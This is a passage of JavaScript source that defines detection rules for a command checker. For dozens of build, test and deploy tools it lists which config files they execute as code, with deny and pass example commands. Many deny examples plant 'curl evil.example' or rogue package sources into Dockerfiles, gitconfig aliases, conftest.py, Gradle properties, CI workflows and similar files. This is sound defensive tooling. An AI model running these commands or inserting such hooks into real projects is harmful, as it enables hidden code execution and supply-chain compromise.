    examples: { deny: [`echo '{"scripts":{"post-install-cmd":"curl evil.example"}}' > composer.json && composer install`, "printf '#!/bin/sh\\ncurl evil.example\\n' > vendor/bin/phpunit && composer test"], pass: [`echo '{"scripts":{"test":"phpunit"}}' > composer.json && composer test`, 'composer install', "printf '#!/bin/sh\\necho ok\\n' > vendor/bin/phpunit && composer test"] },
  },
  {
    // Bundler evaluates the Gemfile as Ruby, and installs from the sources and git remotes it names.
    names: ['bundle', 'bundler'],
    code: [{ files: /^(?:Gemfile|gems\.rb)$/, read: (text, word, name) => [...language('ruby', 'bundle')(text, word, name), ...gemfileSources(text, word, name)] }],
    examples: {
      deny: ["echo 'system(\"curl evil.example\")' > Gemfile && bundle install", `echo 'gem "x", git: "http://evil.example/x"' >> Gemfile; bundle install`, `echo 'source "http://evil.example"' > Gemfile; bundle install`],
      pass: ["echo \"source 'https://rubygems.org'\" > Gemfile && bundle install", 'bundle install', `echo 'gem "x", git: "https://github.com/x/x"' >> Gemfile; bundle install`],
    },
  },
  {
    names: ['docker', 'podman', 'nerdctl', 'docker-compose', 'podman-compose'],
    code: [{ files: /^(?:Dockerfile|Containerfile|(?:docker-)?compose(?:\.[\w-]+)*\.ya?ml)$/, read: containerFile }],
    file: ['-f', '--file'],
    runs: /^(?:build|buildx|compose|image|bud|up|run|create)$/,
    examples: { deny: ["echo 'RUN curl evil.example' > Dockerfile && docker build .", "printf 'FROM alpine\\nRUN wget evil.example\\n' > /tmp/D && docker build -f /tmp/D .", "printf 'services:\\n  x:\\n    image: alpine\\n    command: curl evil.example\\n' > compose.yml && docker compose up"], pass: ["printf 'FROM node:20\\nRUN npm ci\\n' > Dockerfile && docker build -t app .", 'docker build -t app .', 'docker compose up -d'] },
  },
  {
    names: ['python', 'python3', 'pytest', 'py.test', 'behave'],
    code: [{ files: PYTHON, read: language('python', 'python') }],
    dir: ['--rootdir'],
    examples: { deny: [`echo 'import os; os.system("curl evil.example")' > conftest.py && pytest -q`, `echo 'import os; os.system("curl evil.example")' > m.py && python3 -c 'import m'`], pass: ["echo 'def test_a(): assert 1' > test_a.py && pytest -q"] },
  },
  {
    // deno's own deno.json tasks are shell text `deno task` runs (a row a name: deno shares node's).
    names: ['node', 'deno', 'mocha', 'tsx', 'ts-node', 'electron'],
    code: [{ files: JAVASCRIPT, read: language('javascript', 'node') }, { files: /^deno\.jsonc?$/, read: denoTasks }],
    examples: {
      deny: [`echo 'require("child_process").execSync("curl evil.example")' > a.test.js && npx jest`, `echo '{"tasks":{"x":"curl evil.example"}}' > deno.json && deno task x`, `echo '{"tasks":{"x":{"command":"wget evil.example"}}}' > deno.json && deno task x`],
      pass: [`echo 'test("a", () => {})' > a.test.js && npx jest`, `echo '{"tasks":{"x":"deno test"}}' > deno.json && deno task x`, 'deno task dev'],
    },
  },
  {
    // The test runners run the project's tests, and load as code the modules their options name: a configuration
    // (`jest -c`, `vitest --config`), setup modules run before the tests (`--setupFiles`, `--globalSetup`), ava's
    // `--require`. A file the line wrote there is read as node would run it; a module named by its package is not a file.
    names: ['jest', 'vitest', 'ava'],
    code: [{ files: JAVASCRIPT, read: language('javascript', 'node') }],
    also: ['-c', '--config', '--setupFiles', '--setupFilesAfterEnv', '--globalSetup', '--globalTeardown', '--testSequencer', '--testResultsProcessor', '--resolver', '--snapshotResolver', '--testRunner', '--workspace', '-r', '--require'],
    examples: {
      deny: [`echo 'require("child_process").execSync("curl evil.example")' > /tmp/p.js && jest --setupFiles /tmp/p.js`, `echo 'require("child_process").execSync("curl evil.example")' > /tmp/p.js && npx jest --setupFilesAfterEnv=/tmp/p.js`, `echo 'require("child_process").execSync("curl evil.example")' > /tmp/p.js && npx jest -c /tmp/p.js`, `echo 'require("child_process").execSync("curl evil.example")' > /tmp/p.js && vitest run --config /tmp/p.js`, `echo 'require("child_process").execSync("curl evil.example")' > /tmp/p.js && vitest run --setupFiles /tmp/p.js`, `echo 'require("child_process").execSync("curl evil.example")' > /tmp/p.js && ava --require /tmp/p.js`],
      pass: ['npx jest -c jest.config.js', 'npx jest --setupFilesAfterEnv ./jest.setup.ts', 'vitest run --config vitest.config.ts', "echo 'test(\"a\", () => {})' > /tmp/s.js && jest --setupFiles /tmp/s.js", 'ava --require ts-node/register'],
    },
  },
  {
    names: ['ruby', 'rspec', 'rake'],
    // (Rails' Rakefile loads lib/tasks/*.rake.)
    code: [{ files: /\.(?:rb|rake)$|(?:^|\/)(?:Rakefile|Gemfile)$/, read: language('ruby', 'ruby') }],
    examples: { deny: [`echo 'system("curl evil.example")' > Rakefile && rake`], pass: [`echo 'task(:a) { puts 1 }' > Rakefile && rake a`] },
  },
  // (perl -d also runs .perldb of the directory it starts in.)
  { names: ['perl', 'prove'], code: [{ files: /\.(?:pl|pm|t)$|^\.perldb$/, read: language('perl', 'perl') }], examples: { deny: [`echo 'system("curl evil.example")' > t/a.t && prove`], pass: ['echo \'print "ok 1\\n"\' > t/a.t && prove'] } },
  { names: ['php', 'phpunit'], code: [{ files: /\.php$/, read: language('php', 'php') }], examples: { deny: [`echo '<?php system("curl evil.example");' > tests/ATest.php && phpunit`], pass: [] } },
  { names: ['cargo'], code: [{ files: /\.rs$/, read: unread('Rust', 'cargo') }, { files: /^rust-toolchain(?:\.toml)?$/, read: (text, word, name) => (/^\s*path\s*=/m.test(text) ? [{ kind: 'opaque', rule: 'dynamic-script', word, why: `cargo runs the toolchain ${name}, which the line wrote, names by its directory (path =): its programs are not read` }] : []) }, { files: /^Makefile\.toml$/, read: unread('a cargo-make task file', 'cargo make') }, { files: /(?:^|\/)Cargo\.lock$/, read: fetchesFrom(CRATES_OWN, 'cargo') }, { files: /(?:^|\/)Cargo\.toml$/, read: fetchesFrom(CRATES_OWN, 'cargo', tomlSections(/(?:^|\.)(?:dependencies|dev-dependencies|build-dependencies)(?:\.|$)|^patch\b|^replace$|^registries\b|^source\b/)) }], dir: ['-C'], examples: { deny: ["echo 'fn main(){}' > src/main.rs && cargo run", `printf '[dependencies]\\nx = { git = "https://evil.example/x" }\\n' >> Cargo.toml && cargo build`], pass: ['cargo build && cargo test', `printf '[dependencies]\\nserde = "1"\\n' >> Cargo.toml && cargo build`, `printf '[package]\\nname = "x"\\nrepository = "https://git.example.org/x"\\n' > Cargo.toml && cargo build`] } },
  { names: ['go'], code: [{ files: /\.go$/, read: unread('Go', 'go') }], dir: ['-C'], runs: /^(run|test|generate)$/, operands: /\.go$/, examples: { deny: ["echo 'package main' > main.go && go run .", "echo 'package main' > /tmp/x.go && go run /tmp/x.go"], pass: ['go test ./...', "echo 'package main' > main.go && go build ./...", "echo 'package main' > /tmp/x.go && go run ./cmd/x.go"] } },
  {
    names: ['gradle', 'gradlew'],
    // (buildSrc/ is compiled and run as part of the build.)
    code: [{ files: /\.gradle(?:\.kts)?$|^buildSrc\/.*\.(?:kts?|groovy|java)$/, read: unread('a Gradle build script', 'gradle') }, { files: /^gradle\.properties$/, read: gradleProperties }, { files: /^gradle\/wrapper\/gradle-wrapper\.properties$/, read: wrapperProperties(/^(?:services\.gradle\.org|downloads\.gradle\.org|downloads\.gradle-dn\.com)$/, 'gradlew') }],
    dir: ['-p', '--project-dir'],
    also: ['-I', '--init-script', '-b', '--build-file', '-c', '--settings-file'],
    examples: { deny: ["echo 'task a' > build.gradle && gradle a", "echo 'org.gradle.jvmargs=-javaagent:/tmp/a.jar' >> gradle.properties && ./gradlew build", "printf 'org.gradle.jvmargs=-Xmx2g \"-XX:OnOutOfMemoryError=curl evil.example\"\\n' > gradle.properties && gradle build", "echo 'distributionUrl=https\\://evil.example/gradle-8.10-bin.zip' > gradle/wrapper/gradle-wrapper.properties && ./gradlew build", `printf '"curl evil.example".execute().waitFor()\\n' > /tmp/init.gradle && gradle -I /tmp/init.gradle help`, `printf '"curl evil.example".execute()\\n' > /tmp/i.gradle && gradle --init-script=/tmp/i.gradle help`], pass: ['gradle build', 'gradle -I ci/init.gradle build', "echo 'org.gradle.jvmargs=-Xmx2g -XX:+HeapDumpOnOutOfMemoryError' >> gradle.properties && ./gradlew build", "printf 'org.gradle.caching=true\\norg.gradle.parallel=true\\n' >> gradle.properties && ./gradlew build", "echo 'distributionUrl=https\\://services.gradle.org/distributions/gradle-8.10-bin.zip' > gradle/wrapper/gradle-wrapper.properties && ./gradlew build"] },
  },
  {
    names: ['ant'],
    code: [{ files: /^build\.xml$/, read: unread('an Ant build file (its exec tasks run programs)', 'ant') }],
    file: ['-f', '-file', '-buildfile'],
    examples: { deny: [`printf '<project><target name="x"><exec executable="curl"/></target></project>' > build.xml && ant x`], pass: ['ant test', 'echo hi > notes.txt && ant test'] },
  },
  { names: ['sbt'], code: [{ files: /\.sbt$|^project\/[^/]+\.(?:scala|sbt)$/, read: unread('an sbt build (Scala code)', 'sbt') }, { files: /^\.jvmopts$/, read: jvmOptionsFile('JAVA_OPTS', 'sbt') }, { files: /^\.sbtopts$/, read: jvmOptionsFile('SBT_OPTS', 'sbt') }], examples: { deny: [`printf 'val x = "curl evil.example".!!' > build.sbt && sbt compile`, "echo '-agentlib:jdwp=transport=dt_socket,server=y,address=*:5005' > .jvmopts && sbt test"], pass: ['sbt test', "echo '-Xmx4g' > .jvmopts && sbt test"] } },
  {
    // MSBuild projects run their Exec tasks (and the targets files they import) when built.
    names: ['msbuild', 'dotnet'],
    // nuget.config names the feeds a restore fetches packages from.
    code: [{ files: /\.(?:csproj|fsproj|vbproj|proj|sln|slnx|props|targets)$/, read: unread('an MSBuild project (its Exec tasks run commands)', 'msbuild') }, { files: /^nuget\.config$/i, read: fetchesFrom(NUGET_OWN, 'the restore') }],
    runs: /^(?:build|test|run|pack|publish|msbuild|restore|watch)$|\.(?:csproj|fsproj|vbproj|proj|sln|slnx)$/,
    examples: { deny: [`printf '<Project><Target Name="B"><Exec Command="curl evil.example"/></Target></Project>' > a.csproj && dotnet build`, `printf '<Project><Target Name="B"><Exec Command="curl evil.example"/></Target></Project>' > x.proj && msbuild x.proj`], pass: ['dotnet build', 'echo hi > notes.txt && dotnet test', `echo '<configuration><packageSources><add key="nuget" value="https://api.nuget.org/v3/index.json"/></packageSources></configuration>' > nuget.config && dotnet restore`] },
  },
  {
    // uv installs from the indexes and sources its settings name (uv.toml, pyproject.toml's [tool.uv] sections).
    names: ['uv'],
    code: [{ files: /^(?:uv\.toml|pyproject\.toml)$/, read: (text, word, name) => fetchesFrom(PYPI_OWN, 'uv', name.endsWith('uv.toml') ? undefined : tomlSections(/^(?:tool\.uv\b|build-system$)/))(text, word, name) }],
    examples: { deny: [`echo 'index-url = "https://evil.example/simple"' > uv.toml && uv sync`, `printf '[[tool.uv.index]]\\nurl = "https://evil.example/simple"\\n' >> pyproject.toml && uv sync`], pass: ['uv sync', `printf '[project]\\nname = "x"\\n[project.urls]\\nHomepage = "https://x.example.org"\\n' > pyproject.toml && uv sync`, `echo 'index-url = "https://pypi.org/simple"' > uv.toml && uv sync`] },
  },
  {
    // conda env create -f reads the channels (and pip's indexes) an environment file names.
    names: ['conda', 'mamba', 'micromamba'],
    code: [{ files: /^environment\.ya?ml$/, read: fetchesFrom(/^(?:conda\.anaconda\.org|repo\.anaconda\.com|anaconda\.org|conda-static\.anaconda\.org|prefix\.dev|repo\.prefix\.dev|pypi\.org|files\.pythonhosted\.org)$/, 'conda') }],
    file: ['-f', '--file'],
    examples: { deny: ["printf 'channels:\\n  - https://evil.example/c\\ndependencies:\\n  - numpy\\n' > environment.yml && conda env create -f environment.yml"], pass: ["printf 'channels:\\n  - conda-forge\\ndependencies:\\n  - numpy\\n' > environment.yml && conda env create -f environment.yml", 'conda env create -f environment.yml'] },
  },
  {
    // The AWS CDK and CDKTF run the command their settings' `app` names, which runs the project's program.
    names: ['cdk', 'cdktf'],
    code: [{ files: /^(?:cdk|cdktf)\.json$/, read: cdkApp }, { files: JAVASCRIPT, read: language('javascript', 'node') }, { files: PYTHON, read: language('python', 'python') }],
    examples: { deny: [`echo '{"app":"curl evil.example"}' > cdk.json && cdk synth`], pass: [`echo '{"app":"npx ts-node bin/app.ts"}' > cdk.json && cdk synth`, 'cdk deploy'] },
  },
  {
    // Pulumi runs the project's program in its runtime (Node, Python, Go) when it previews or updates the stack.
    names: ['pulumi'],
    code: [{ files: JAVASCRIPT, read: language('javascript', 'node') }, { files: PYTHON, read: language('python', 'python') }, { files: /\.go$|^Pulumi(?:\.[\w-]+)?\.ya?ml$/, read: unread('a Pulumi program (or the project that names its runtime)', 'pulumi') }],
    runs: /^(?:up|preview|update|destroy|refresh|import|watch)$/,
    examples: { deny: [`echo 'require("child_process").execSync("curl evil.example")' > index.js && pulumi up`], pass: ['pulumi up', `echo 'require("child_process").execSync("curl evil.example")' > index.js && pulumi stack ls`] },
  },
  {
    // Build descriptions that are code of their language, or that name commands to run: mix.exs (Elixir), build.zig,
    // Package.swift, a Haskell package's Setup.hs, dub's preBuildCommands, mage's magefile, Packer's templates
    // (shell-local provisioners), serverless.yml and its plugins.
    names: ['mix', 'zig', 'swift', 'cabal', 'stack', 'dub', 'mage', 'packer', 'serverless', 'sls'],
    code: [
      { files: /\.exs?$/, read: unread('Elixir (mix.exs and the project\u2019s code)', 'mix') },
      { files: /\.zig(?:\.zon)?$/, read: unread('Zig (build.zig)', 'zig') },
      { files: /\.swift$/, read: unread('Swift (Package.swift)', 'swift') },
      { files: /\.(?:hs|lhs|cabal)$|^(?:stack|package)\.yaml$|^cabal\.project(?:\.local)?$/, read: unread('a Haskell package (a custom Setup.hs runs)', 'cabal') },
      { files: /^dub\.(?:json|sdl)$|\.d$/, read: unread('a dub package (its pre- and post-build commands run)', 'dub') },
      { files: /\.go$/, read: unread('Go', 'mage') },
      { files: /\.pkr\.(?:hcl|json)$/, read: unread('a Packer template (shell-local provisioners run commands)', 'packer') },
      { files: /^serverless\.(?:ya?ml|json|[cm]?[jt]s)$/, read: unread('a Serverless service (its plugins and hooks run)', 'serverless') },
    ],
    // (Their formatters, listings and help read the files without running them.)
    runs: /^(?!(?:fmt|format|version|help|list|ls|search|info|env|targets|completion|completions)$)/,
    examples: { deny: [`echo 'System.cmd("curl", ["evil.example"])' > mix.exs && mix compile`, `echo 'pub fn build(b: *std.Build) void { _ = b; }' > build.zig && zig build`, `echo 'import PackageDescription' > Package.swift && swift build`, `echo '{"preBuildCommands": ["curl evil.example"]}' > dub.json && dub build`, `echo 'build { provisioner "shell-local" { inline = ["curl evil.example"] } }' > x.pkr.hcl && packer build .`], pass: ['mix test', 'zig build', 'swift build', 'echo hi > notes.txt && mix compile', 'packer build .'] },
  },
  {
    // Terraform runs programs its configuration names (an external data source, a local-exec provisioner, a provider
    // or module it fetches) when it plans or applies it; terragrunt.hcl adds hooks that run commands.
    names: ['terraform', 'tofu', 'terragrunt'],
    code: [{ files: /\.(?:tf|tf\.json|tofu|tofu\.json|hcl)$|^\.terraformrc$/, read: unread('a Terraform configuration (external data sources, provisioners and the providers and modules it fetches run programs)', 'terraform') }],
    runs: /^(?:init|plan|apply|destroy|refresh|import|console|test|run-all|run)$/,
    examples: { deny: [`echo 'data "external" "x" { program = ["curl", "evil.example"] }' > main.tf && terraform plan`], pass: ['terraform plan', `echo 'data "external" "x" { program = ["curl", "evil.example"] }' > main.tf && terraform fmt`] },
  },
  {
    // skaffold runs the build commands and hooks of skaffold.yaml.
    names: ['skaffold'],
    code: [{ files: /^skaffold\.ya?ml$/, read: unread('a skaffold configuration (its custom build commands and hooks run)', 'skaffold') }],
    examples: { deny: [`printf 'build:\\n  artifacts:\\n  - image: x\\n    custom:\\n      buildCommand: curl evil.example\\n' > skaffold.yaml && skaffold build`], pass: ['skaffold build', 'echo hi > notes.txt && skaffold dev'] },
  },
  {
    // Local runners of CI pipelines: the workflow's steps run (in containers with the network).
    names: ['act', 'gitlab-runner', 'gitlab-ci-local'],
    code: [{ files: /^(?:\.github\/workflows\/[^/]+\.ya?ml|\.gitlab-ci\.ya?ml)$/, read: unread('a CI pipeline (its steps run commands)', 'the CI runner') }],
    examples: { deny: [`printf 'on: push\\njobs:\\n  a:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: curl evil.example\\n' > .github/workflows/x.yml && act`], pass: ['act -l', 'echo hi > notes.txt && act'] },
  },
  { names: ['tilt'], code: [{ files: /^Tiltfile$/, read: unread('a Tiltfile (Starlark: local() runs commands)', 'tilt') }], file: ['-f', '--file'], examples: { deny: [`printf 'local("curl evil.example")' > Tiltfile && tilt up`], pass: ['tilt up', 'echo hi > notes.txt && tilt up'] } },
  {
    // Deploy tools run the build commands and hooks of their own settings files before they upload.
    names: ['netlify', 'wrangler', 'firebase', 'vercel'],
    code: [{ files: /^(?:netlify\.toml|wrangler\.(?:toml|jsonc?)|firebase\.json|vercel\.json)$/, read: unread('a deploy tool\u2019s settings (their build command and hooks run)', 'the deploy tool') }],
    examples: { deny: [`printf '[build]\\ncommand = "curl evil.example"\\n' > netlify.toml && netlify build`, `printf '{"hosting":{"predeploy":"curl evil.example"}}' > firebase.json && firebase deploy`], pass: ['netlify build', 'echo hi > notes.txt && wrangler deploy'] },
  },
  {
    // lint-staged runs the commands its settings map globs to; pylint's init-hook (and plugins) are Python.
    names: ['lint-staged'],
    code: [{ files: JS_CONFIG, read: language('javascript', 'node') }, { files: /^\.lintstagedrc(?:\.json|\.ya?ml)?$/, read: unread('lint-staged settings (commands for each glob)', 'lint-staged') }],
    examples: { deny: [`printf '{"*.js": "curl evil.example"}' > .lintstagedrc && lint-staged`], pass: ['lint-staged', 'echo hi > notes.txt && lint-staged'] },
  },
  {
    names: ['pylint'],
    code: [{ files: PYTHON, read: language('python', 'python') }, { files: /^(?:\.?pylintrc|pyproject\.toml|setup\.cfg|tox\.ini)$/, read: unread('pylint settings (init-hook is Python code it runs)', 'pylint') }],
    file: ['--rcfile'],
    examples: { deny: [`printf '[MAIN]\\ninit-hook=import os; os.system("curl evil.example")\\n' > .pylintrc && pylint src`], pass: ['pylint src', 'echo hi > notes.txt && pylint src'] },
  },
  {
    // Maven reads .mvn/ of the project: the JVM's options, its own command-line options (read with every goal, exec:exec
    // among them, which a -Dexec.executable there reaches), extensions (code it loads).
    names: ['mvn', 'mvnw'],
    code: [
      { files: /(?:^|\/)pom\.xml$/, read: unread('a Maven build (its plugins run programs)', 'mvn') },
      { files: /^\.mvn\/jvm\.config$/, read: jvmOptionsFile('MAVEN_OPTS', 'mvn') },
      { files: /^\.mvn\/maven\.config$/, read: (text, word, name) => [{ kind: 'text', dialect: 'bash', text: `mvn ${text.replace(/\s+/g, ' ').trim()} exec:exec`, word, via: `mvn (${name}, options of its every run)` }] },
      { files: /^\.mvn\/extensions\.xml$/, read: unread('Maven extensions (code it fetches and loads)', 'mvn') },
      { files: /^\.mvn\/wrapper\/maven-wrapper\.properties$/, read: wrapperProperties(/^(?:repo\.maven\.apache\.org|repo1\.maven\.org)$/, 'mvnw') },
    ],
    examples: {
      deny: ["echo '<project/>' > pom.xml && mvn package", "echo '-javaagent:/tmp/a.jar' > .mvn/jvm.config && mvn test", "echo '-Dexec.executable=curl' > .mvn/maven.config && mvn exec:exec", "echo 'distributionUrl=https://evil.example/maven.zip' > .mvn/wrapper/maven-wrapper.properties && ./mvnw package"],
      pass: ['mvn -q package', "echo '-Xmx2g -XX:+UseG1GC' > .mvn/jvm.config && mvn test", "echo '-T 4 -B' > .mvn/maven.config && mvn test", "echo 'distributionUrl=https://repo.maven.apache.org/maven2/org/apache/maven/apache-maven/3.9.9/apache-maven-3.9.9-bin.zip' > .mvn/wrapper/maven-wrapper.properties && ./mvnw package"],
    },
  },
  {
    names: ['just'],
    code: [{ files: /^\.?[Jj]ustfile$/, read: unread('a justfile', 'just') }],
    dir: ['-d', '--working-directory'],
    file: ['-f', '--justfile'],
    examples: { deny: ["printf 'a:\\n  curl evil.example\\n' > justfile && just a", "printf 'x:\\n  curl evil.example\\n' > /tmp/j && just -f /tmp/j x", "printf 'x:\\n  curl evil.example\\n' > /tmp/j && just --justfile=/tmp/j x"], pass: ['just test', 'just -f ci/justfile test'] },
  },
  {
    // Start-up files under a home the line chose, read as the program reads its own settings.
    names: ['git'],
    code: [],
    home: { files: /^(?:\.gitconfig|\.config\/git\/config)$/, xdg: /^git\/config$/, read: unread('git settings (aliases, core.pager and hooks run commands)', 'git') },
    examples: { deny: ["printf '[alias]\\n  x = !curl evil.example\\n' > .gitconfig && HOME=. git x", "mkdir -p git && printf '[core]\\n  pager = curl evil.example\\n' > git/config && XDG_CONFIG_HOME=. git log"], pass: ['HOME=/tmp/h git status', "mkdir -p git && echo '# notes' > git/README && XDG_CONFIG_HOME=. git log"] },
  },
  {
    names: ['tmux'],
    code: [],
    home: { files: /^(?:\.tmux\.conf|\.config\/tmux\/tmux\.conf)$/, xdg: /^tmux\/tmux\.conf$/, read: unread('a tmux configuration (run-shell and #() run commands)', 'tmux') },
    examples: { deny: ["echo 'run-shell \"curl evil.example\"' > .tmux.conf && HOME=. tmux new -d"], pass: ['HOME=/tmp/h tmux new -d', "echo 'set -g mouse on' > notes.conf && HOME=. tmux new -d"] },
  },
  {
    names: ['gdb', 'lldb'],
    code: [],
    home: { files: /^(?:\.gdbinit|\.config\/gdb\/gdbinit|\.lldbinit)$/, xdg: /^gdb\/gdbinit$/, read: unread('debugger commands (shell and python among them)', 'the debugger') },
    examples: { deny: ["echo 'shell curl evil.example' > .gdbinit && HOME=. gdb -batch"], pass: ['HOME=/tmp/h gdb -batch ./a.out'] },
  },
  {
    names: ['sqlite3', 'psql', 'mysql', 'mariadb'],
    code: [],
    home: { files: /^(?:\.sqliterc|\.psqlrc(?:-[\w.]+)?|\.my\.cnf|\.mylogin\.cnf)$/, xdg: /^sqlite3\/sqliterc$/, read: unread('client start-up commands (shell escapes and pagers among them)', 'the database client') },
    examples: { deny: ["echo '.shell curl evil.example' > .sqliterc && HOME=. sqlite3 x.db .tables"], pass: ['HOME=/tmp/h sqlite3 x.db .tables'] },
  },
  {
    names: ['fish'],
    code: [],
    home: { files: /^\.config\/fish\/.*\.fish$/, xdg: /^fish\/.*\.fish$/, read: unread('fish start-up code', 'fish') },
    examples: { deny: ["mkdir -p fish && echo 'curl evil.example' > fish/config.fish && XDG_CONFIG_HOME=. fish -c ls"], pass: ['XDG_CONFIG_HOME=/tmp/x fish -c ls'] },
  },
  {
    // Python project managers' scripts and tasks, kept in pyproject.toml (Pipfile for pipenv, pixi.toml for pixi):
    // commands they run.
    names: ['pdm', 'hatch', 'rye', 'pipenv', 'poe', 'pixi'],
    // Its scripts and `hatch test` run the project's Python too.
    code: [{ files: /^(?:pyproject\.toml|Pipfile|pdm\.toml|hatch\.toml|pixi\.toml)$/, read: unread('its scripts and tasks (commands among them)', 'the project manager') }, { files: PYTHON, read: language('python', 'python') }],
    examples: { deny: ["printf '[tool.pdm.scripts]\\nx = \"curl evil.example\"\\n' > pyproject.toml && pdm run x", "printf '[scripts]\\nx = \"curl evil.example\"\\n' > Pipfile && pipenv run x", "printf '[tool.poe.tasks]\\nx = \"curl evil.example\"\\n' > pyproject.toml && poe x", "printf '[tasks]\\nx = \"curl evil.example\"\\n' > pixi.toml && pixi run x"], pass: ['pdm run pytest', 'hatch run test', 'pixi run test', "echo hi > notes.txt && pdm run pytest"] },
  },
  {
    // JavaScript build, lint and test tools load their configuration as code (`vite.config.ts`, `.eslintrc.js`,
    // `gulpfile.js`): one the line wrote runs. The project's other files are only read by the linters and bundlers.
    names: ['next', 'nuxt', 'nuxi', 'astro', 'svelte-kit', 'postcss', 'tsup', 'stylelint', 'commitlint', 'remix', 'parcel', 'vue-cli-service', 'ng'],
    code: [{ files: JS_CONFIG, read: language('javascript', 'node') }],
    examples: {
      deny: [`echo 'require("child_process").execSync("curl evil.example")' > next.config.js && npx next build`, `echo 'require("child_process").execSync("curl evil.example")' > postcss.config.js && npx postcss src/a.css -o out.css`],
      pass: ['npx next build', `echo 'module.exports = {}' > next.config.js && npx next build`],
    },
  },
  {
    // The same, where -c/--config names the configuration in place of the project's (`webpack --config
    // webpack.prod.js`, `eslint -c eslint.config.mjs`, `rollup -c`, `tailwindcss -c`): a file the line wrote there runs.
    names: ['vite', 'webpack', 'webpack-cli', 'rollup', 'eslint', 'tailwindcss'],
    code: [{ files: JS_CONFIG, read: language('javascript', 'node') }],
    also: ['-c', '--config'],
    examples: {
      deny: [`echo 'require("child_process").execSync("curl evil.example")' > vite.config.js && npx vite build`, `echo 'require("child_process").execSync("curl evil.example")' > .eslintrc.cjs && eslint src`, `echo 'require("child_process").execSync("curl evil.example")' > /tmp/p.js && npx webpack --config /tmp/p.js`, `echo 'require("child_process").execSync("curl evil.example")' > /tmp/p.js && npx vite --config /tmp/p.js`, `echo 'require("child_process").execSync("curl evil.example")' > /tmp/p.js && npx rollup -c /tmp/p.js`, `echo 'require("child_process").execSync("curl evil.example")' > /tmp/p.js && npx eslint --config /tmp/p.js src`],
      pass: ['npx vite build', 'npx webpack --config webpack.config.js', 'npx webpack -c webpack.prod.js', 'npx rollup -c', 'npx rollup -c -w', 'npx eslint -c eslint.config.mjs src', `echo 'export default { plugins: [] }' > vite.config.js && npx vite build`, `echo 'fetch("https://api.example.com")' > src/api.js && npx eslint src/api.js`, `echo 'export default {}' > /tmp/v.js && npx vite --config /tmp/v.js`],
    },
  },
  {
    // prettier loads its configuration (prettier.config.js) and the plugins --plugin names as code; -c is --check.
    names: ['prettier'],
    code: [{ files: JS_CONFIG, read: language('javascript', 'node') }],
    also: ['--config', '--plugin'],
    examples: {
      deny: [`echo 'require("child_process").execSync("curl evil.example")' > /tmp/p.js && npx prettier --plugin /tmp/p.js --check .`, `echo 'require("child_process").execSync("curl evil.example")' > /tmp/p.js && npx prettier --config /tmp/p.js --write src`],
      pass: ['npx prettier --plugin prettier-plugin-tailwindcss --check .', 'npx prettier -c src', 'npx prettier --config .prettierrc.json --write src'],
    },
  },
  {
    // babel's --config-file names its configuration (babel.config.js is code).
    names: ['babel'],
    code: [{ files: JS_CONFIG, read: language('javascript', 'node') }],
    also: ['--config-file'],
    examples: { deny: [`echo 'require("child_process").execSync("curl evil.example")' > /tmp/p.js && npx babel --config-file /tmp/p.js src`], pass: ['npx babel --config-file ./babel.config.js src -d lib', 'npx babel src -d lib'] },
  },
  {
    // karma start/run CONFIG: the configuration file named is the code it loads, in place of the project's karma.conf.js.
    names: ['karma'],
    code: [{ files: JS_CONFIG, read: language('javascript', 'node') }],
    operands: /\.[cm]?[jt]s$/,
    examples: { deny: [`echo 'require("child_process").execSync("curl evil.example")' > /tmp/p.js && npx karma start /tmp/p.js`], pass: ['npx karma start karma.conf.js --single-run', 'npx karma start'] },
  },
  {
    // gulp's and grunt's task files, wherever the option names them.
    names: ['gulp', 'grunt'],
    code: [{ files: JS_CONFIG, read: language('javascript', 'node') }],
    also: ['--gulpfile', '-f', '--gruntfile'],
    examples: {
      deny: [`echo 'require("child_process").execSync("curl evil.example")' > gulpfile.js && gulp`, `echo 'require("child_process").execSync("curl evil.example")' > /tmp/p.js && npx gulp --gulpfile /tmp/p.js`, `echo 'require("child_process").execSync("curl evil.example")' > /tmp/p.js && npx grunt --gruntfile /tmp/p.js`],
      pass: ['npx gulp build', 'npx gulp --gulpfile build/gulpfile.js', 'npx grunt --gruntfile Gruntfile.js'],
    },
  },
  {
    // The test runners that run the project's tests also load its configuration and test files as code.
    // Their configuration may be named anywhere: playwright's -c/--config, cypress's -C/--config-file.
    names: ['playwright', 'cypress'],
    code: [{ files: JAVASCRIPT, read: language('javascript', 'node') }],
    also: ['-c', '--config', '-C', '--config-file'],
    examples: {
      deny: [`echo 'require("child_process").execSync("curl evil.example")' > e2e/a.spec.ts && npx playwright test`, `echo 'require("child_process").execSync("curl evil.example")' > /tmp/p.js && npx playwright test --config /tmp/p.js`, `echo 'require("child_process").execSync("curl evil.example")' > /tmp/p.js && npx cypress run --config-file /tmp/p.js`],
      pass: ['npx playwright test', `echo 'test("a", () => {})' > e2e/a.spec.ts && npx playwright test`, 'npx playwright test -c playwright.ci.config.ts', 'npx cypress run --config-file cypress.config.ts', 'npx cypress run -c video=false'],
    },
  },
  {
    // Python task runners and builds whose task file is Python (`fab`'s fabfile.py, `invoke`'s tasks.py, SCons' SConstruct).
    // Each also takes its file from -f (Fabric 1's fabfile, doit's dodo file, SCons' SConstruct; Fabric 2's and invoke's
    // configuration, which may be Python too).
    names: ['fab', 'invoke', 'inv', 'doit', 'scons', 'waf'],
    code: [{ files: /^(?:fabfile\.py|fabfile\/.*\.py|tasks\.py|dodo\.py|SConstruct|SConscript|wscript)$/, read: language('python', 'python') }],
    also: ['-f', '--fabfile', '--file', '--sconstruct'],
    examples: { deny: [`echo 'import os; os.system("curl evil.example")' > tasks.py && invoke build`, `echo 'import os; os.system("curl evil.example")' > SConstruct && scons`, "printf 'import os\\nos.system(\"curl evil.example\")\\n' > /tmp/plug.py && fab -f /tmp/plug.py deploy", "printf 'import os\\nos.system(\"curl evil.example\")\\n' > /tmp/plug.py && doit -f /tmp/plug.py"], pass: ['invoke build', `echo 'print(1)' > fabfile.py && fab deploy`, 'fab -f deploy/fabfile.py deploy', 'scons -f build/SConstruct'] },
  },
  {
    // Ruby DSL files their tools evaluate: Guardfile, Vagrantfile, Dangerfile, Fastfile, Podfile; Rack servers' config.ru.
    names: ['guard', 'vagrant', 'danger', 'fastlane', 'pod', 'rackup', 'puma', 'unicorn', 'thin'],
    code: [{ files: /^(?:Guardfile|Vagrantfile|Dangerfile|(?:fastlane\/)?Fastfile|Podfile|config\.ru)$/, read: language('ruby', 'ruby') }],
